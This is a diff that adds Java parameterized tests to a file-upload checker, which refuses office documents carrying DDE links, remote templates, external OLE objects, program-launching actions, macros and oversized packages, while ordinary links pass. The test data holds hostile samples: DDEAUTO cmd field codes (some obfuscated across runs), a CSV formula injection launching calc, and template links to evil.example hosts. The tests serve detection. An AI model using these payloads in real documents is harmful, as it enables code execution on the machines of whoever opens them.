@@ -20,10 +20,12 @@ import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.UncheckedIOException;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.Arrays;
 import java.util.Map;
+import java.util.stream.IntStream;
 import java.util.stream.Stream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipInputStream;
@@ -350,6 +352,158 @@ class FileTypesTest {
                 .as(way)
                 .isInstanceOf(RefusedFileException.class)
                 .hasMessageContaining("a document with macros");
+    }
+
+    /** What people do every day, and looks a little like it. */
+    static Stream<Arguments> takesLinksThatNobodyFollowsUnasked() {
+        return Stream.of(
+                arguments("plan.docx", linking("hyperlink", "https://example.org/page")),
+                arguments("plan.docx", linking("image", "https://example.org/logo.png")),
+                arguments("plan.docx", linking("attachedTemplate", "file:///C:\\Users\\ana\\letter.dotx")),
+                arguments("plan.docx", linking("attachedTemplate", "file:///Users/ana/letter.dotx")),
+                arguments("plan.docx", linking("oleObject", "../embeddings/oleObject1.bin")),
+                arguments("plan.docx", linking("externalLinkPath", "https://school.example/budget.xlsx")),
+                arguments("plan.docx", linking("xlExternalLinkPath/xlPathMissing", "\\\\server\\budget.xlsx")),
+                arguments("plan.docx", fields(instruction("PAGE"), instruction(" HYPERLINK dde "))),
+                arguments("plan.docx", fields(instruction("IF ", instruction("PAGE")))),
+                arguments("plan.docx", word("", "xl/drawings/a.vml", "<xml xmlns:v=\"urn:v\"><br></xml>")),
+                arguments("plan.odt", openText("<object href=\"./Object 1\"/><image href=\"https://a.example/a\"/>")),
+                arguments("plan.xls", ole2("Workbook", linkedBook("01 01 43 03 61 2e 78 6c 73"))),
+                arguments("plan.doc", ole2("WordDocument", text("\u0013 HYPERLINK DDE \u0014"))),
+                arguments("hours.csv", text("day,minutes,note\n2025-11-03,-90,yes|no! Really\n2025-11-04,=A2*2,x\n")));
+    }
+
+    @ParameterizedTest
+    @MethodSource
+    void takesLinksThatNobodyFollowsUnasked(String name, byte[] content) throws IOException {
+        Path file = file(content);
+
+        assertThat(FileTypes.check(file, name)).isNotEmpty();
+    }
+
+    static Stream<Arguments> refusesWhatADocumentDoesWhenItIsOpened() {
+        String dde = "a document with a DDE link";
+        String fetches = "a document that fetches a part of itself from elsewhere";
+        return Stream.of(
+                arguments("plan.docx", fields(instruction(" DDEAUTO cmd.exe ")), dde),
+                arguments("plan.docx", fields(instruction("dde Excel a.xls")), dde),
+                arguments("plan.docx", fields(instruction("DD", "EAU", "TO cmd")), dde),
+                arguments("plan.docx", fields(instruction("IF 1 = 1 ", instruction("DDEAUTO cmd"))), dde),
+                arguments("plan.docx", fields(instruction(instruction("QUOTE 68 68 69"), " cmd")), dde),
+                arguments("plan.docx", fields(instruction("D", instruction("QUOTE 68 69"), " cmd")), dde),
+                arguments("plan.docx", fields("<w:fldSimple w:instr=\"DDEAUTO cmd\"/>"), dde),
+                arguments("plan.docx", word("", "word/a.bin", " ".repeat(600) + "<fldSimple instr=\"DDE cmd\"/>"), dde),
+                arguments(
+                        "plan.xlsx",
+                        word("", "xl/externalLinks/a.xml", "<externalLink><ddeLink/></externalLink>"),
+                        dde),
+                arguments("plan.ods", openText("<dde-source dde-application=\"soffice\"/>"), dde),
+                arguments("plan.ods", openText("<table-cell formula=\"of:=DDE(&quot;soffice&quot;)\"/>"), dde),
+                arguments("plan.doc", ole2("WordDocument", text("\u0013 DDEAUTO cmd \u0014")), dde),
+                arguments(
+                        "plan.doc",
+                        ole2("WordDocument", "\u0013 ddeauto cmd \u0014".getBytes(StandardCharsets.UTF_16LE)),
+                        dde),
+                arguments("plan.xls", ole2("Workbook", linkedBook("63 6d 64 03 2f 63")), dde),
+                arguments("hours.csv", text("day\n\"=cmd|' /C calc'!A0\"\n"), dde),
+                arguments("plan.docx", linking("attachedTemplate", "https://evil.example/a.dotm"), fetches),
+                arguments("plan.docx", linking("attachedTemplate", "file:///\\\\evil\\a.dotm"), fetches),
+                arguments("plan.docx", linking("attachedTemplate", "%5C%5Cevil\\a.dotm"), fetches),
+                arguments("plan.docx", linking("oleObject", "HTTPS://evil.example/a.html!"), fetches),
+                arguments("plan.docx", linking("oleObject", "mhtml:https://evil.example/a!x-usc:b"), fetches),
+                arguments("plan.docx", linking("frame", "https://evil.example/a.docx"), fetches),
+                arguments("plan.docx", linking("image", "file://evil/a.png"), fetches),
+                arguments(
+                        "plan.docx",
+                        embedding("word/embeddings/a.docx", linking("attachedTemplate", "https://evil.example/a.dotm")),
+                        fetches),
+                arguments(
+                        "plan.doc",
+                        ole2("\u0001Ole", hex("0100000201000000 e0c9ea79f9bace118c8200aa004ba90b" + "00".repeat(64))),
+                        fetches),
+                arguments("plan.odt", openText("<floating-frame href=\"https://evil.example/a\"/>"), fetches),
+                arguments(
+                        "plan.pptx",
+                        word("", "ppt/slides/slide1.xml", "<sld><hlinkClick action=\"ppaction://program\"/></sld>"),
+                        "a document that starts another program"),
+                arguments(
+                        "plan.docx",
+                        embedding(
+                                "word/embeddings/a.odt", openDocument(OPEN_DOCUMENT + "text", "Basic/Standard/a.xml")),
+                        "a document with macros"));
+    }
+
+    @ParameterizedTest
+    @MethodSource
+    void refusesWhatADocumentDoesWhenItIsOpened(String name, byte[] content, String found) throws IOException {
+        Path file = file(content);
+
+        assertThatThrownBy(() -> FileTypes.check(file, name))
+                .isInstanceOf(RefusedFileException.class)
+                .hasMessageStartingWith("'%s' is not taken: it is ", name)
+                .hasMessageContaining(found);
+    }
+
+    private static byte[] linking(String type, String target) {
+        return word(
+                "",
+                "word/_rels/settings.xml.rels",
+                "<r><Relationship Type=\"%s/%s\" Target=\"%s\" TargetMode=\"External\"/></r>"
+                        .formatted(
+                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships", type, target));
+    }
+
+    /** A field whose code is spread over runs. */
+    private static String instruction(String... runs) {
+        StringBuilder field = new StringBuilder("<w:fldChar w:fldCharType=\"begin\"/>");
+        for (String run : runs) {
+            field.append(run.startsWith("<") ? run : "<w:instrText>%s</w:instrText>".formatted(run));
+        }
+        return field + "<w:fldChar w:fldCharType=\"separate\"/><w:t>1</w:t><w:fldChar w:fldCharType=\"end\"/>";
+    }
+
+    private static byte[] fields(String... fields) {
+        return word(
+                "",
+                "word/footer1.xml",
+                "<w:ftr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">%s</w:ftr>"
+                        .formatted(String.join("", fields)));
+    }
+
+    /** The stream of an old workbook that links to this path. */
+    private static byte[] linkedBook(String path) {
+        byte[] signs = hex(path);
+        return hex("0908 1000 0006 0500 bb0d cc07 00000000 06000000 ae01 %02x00 0100 %02x00 00 %s 0a00 0000"
+                .formatted(signs.length + 5, signs.length, path));
+    }
+
+    @Test
+    void refusesMoreTablesThanAnyPackageHas() throws IOException {
+        String table = "<r>" + " ".repeat(1024 * 1024 - 7) + "</r>";
+        String[] tables = IntStream.range(0, 300)
+                .boxed()
+                .flatMap(number -> Stream.of("word/_rels/%d.rels".formatted(number), table))
+                .toArray(String[]::new);
+        byte[] content = word("", tables);
+        assertThat(content).hasSizeLessThan(1024 * 1024);
+        Path file = file(content);
+
+        assertThatThrownBy(() -> FileTypes.check(file, "plan.docx"))
+                .isInstanceOf(RefusedFileException.class)
+                .hasMessageContaining("it is damaged");
+    }
+
+    @Test
+    void refusesMorePartsThanAnyPackageHas() throws IOException {
+        String[] parts = IntStream.range(0, 10_001)
+                .boxed()
+                .flatMap(number -> Stream.of(number.toString(), ""))
+                .toArray(String[]::new);
+        Path file = file(word("", parts));
+
+        assertThatThrownBy(() -> FileTypes.check(file, "plan.docx"))
+                .isInstanceOf(RefusedFileException.class)
+                .hasMessageContaining("it is damaged");
     }
 
     static Stream<Arguments> refusesFilesThatArePackedIntoADocument() {
